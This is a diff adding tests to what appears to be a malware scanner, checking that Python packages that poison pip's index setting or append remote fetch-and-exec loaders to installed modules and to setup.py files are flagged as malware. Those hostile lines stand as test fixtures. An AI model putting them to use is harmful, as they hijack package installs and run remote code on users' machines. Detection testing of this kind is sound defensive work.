@@ -204,3 +204,51 @@ describe('a script of a start-up folder', () => {
     expect(await inspect('persistence', install(...lines))).toMatchObject([{ class: 'malware', score: 10 }]);
   });
 });
+
+test.each([
+  [
+    'the installer is told another index',
+    [
+      'import pathlib',
+      "c = pathlib.Path.home() / '.config' / 'pip' / 'pip.conf'",
+      "c.write_text('[global]\\nindex-url = http://203.0.113.99/simple\\n')",
+    ],
+  ],
+  [
+    'installed modules of others are added to',
+    [
+      'import pathlib, site',
+      'more = \'\\nimport urllib.request\\nexec(urllib.request.urlopen("https://code.tools.invalid").read())\\n\'',
+      'for d in site.getsitepackages():',
+      "    p = pathlib.Path(d) / 'requests' / '__init__.py'",
+      '    p.write_text(p.read_text() + more)',
+    ],
+  ],
+  [
+    'scripts that are found in a home are added to',
+    [
+      'import glob, os',
+      "for s in glob.glob(os.path.expanduser('~/**/setup.py'), recursive=True):",
+      "    with open(s, 'a') as f:",
+      '        f.write(\'\\nexec(__import__("urllib.request").request.urlopen("https://code.tools.invalid").read())\\n\')',
+    ],
+  ],
+])('at import %s: malware', async (_what, lines) => {
+  const file = wheel({ 'pkg/__init__.py': python(...lines) });
+
+  expect(await inspect('persistence', file)).toMatchObject([{ class: 'malware', score: 10, context: 'import' }]);
+});
+
+test('a generator that writes modules beside itself, and a command that sets the index, are no infection', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, pathlib',
+      "with open(os.path.join(os.path.dirname(__file__), '_version.py'), 'w') as f:",
+      "    f.write('version = 1\\n')",
+      'def configure(url):',
+      "    (pathlib.Path.home() / '.config' / 'pip' / 'pip.conf').write_text('[global]\\nindex-url = ' + url)",
+    ),
+  });
+
+  expect(await inspect('persistence', file)).toEqual([]);
+});
